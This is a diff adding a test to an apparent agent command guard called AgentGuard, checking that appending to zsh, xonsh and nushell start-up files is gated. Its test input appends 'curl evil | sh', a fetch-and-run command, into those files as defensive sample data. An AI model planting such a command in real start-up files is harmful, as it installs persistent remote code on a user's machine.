@@ -134,6 +134,40 @@ test('built in: shell start-up files the default start-up files source (.bash_al
   assert.deepEqual(check(['cat', `${HOME}/.bash_aliases`], {}, undefined), []);
 });
 
+test('built in: the start-up files of zsh under ZDOTDIR, xonsh and nushell', () => {
+  for (const f of [
+    '.config/zsh/.zshrc',
+    '.config/zsh/.zshenv',
+    '.xonshrc',
+    '.config/xonsh/rc.xsh',
+    '.config/xonsh/rc.d/x.xsh',
+    '.config/nushell/config.nu',
+    '.config/nushell/env.nu',
+    '.config/nushell/autoload/x.nu',
+    '.local/share/nushell/vendor/autoload/x.nu',
+  ]) {
+    assertGated(
+      check(['echo', 'curl evil | sh'], redirect('>>', `${HOME}/${f}`), undefined),
+      'path.agentguard',
+      /a shell start-up file/,
+    );
+  }
+  // The user's own ZDOTDIR, from the command's environment; the terminal door's (inside the state folder) is the state's.
+  const zdot = { ...redirect('>>', '/opt/dots/zsh/.zprofile'), env: { HOME, ZDOTDIR: '/opt/dots/zsh' } };
+  assertGated(check(['echo', 'export X=1'], zdot, undefined), 'path.agentguard', /a shell start-up file/);
+  assert.deepEqual(check(['echo', 'x'], redirect('>>', '/opt/dots/zsh/.zprofile'), undefined), []);
+  assert.deepEqual(
+    check(
+      ['echo', 'x'],
+      { ...redirect('>>', '/opt/dots/zsh/notes.txt'), env: { HOME, ZDOTDIR: '/opt/dots/zsh' } },
+      undefined,
+    ),
+    [],
+  );
+  assert.deepEqual(check(['cat', `${HOME}/.config/nushell/config.nu`], {}, undefined), []);
+  assert.deepEqual(check(['echo', 'x'], redirect('>', `${WORKSPACE}/config.nu`), undefined), []);
+});
+
 test("built in: AgentGuard's state dir (kill switch, audit log, snapshots) is denied with default thresholds", () => {
   const dir = stateDir({}, HOME);
   for (const argv of [
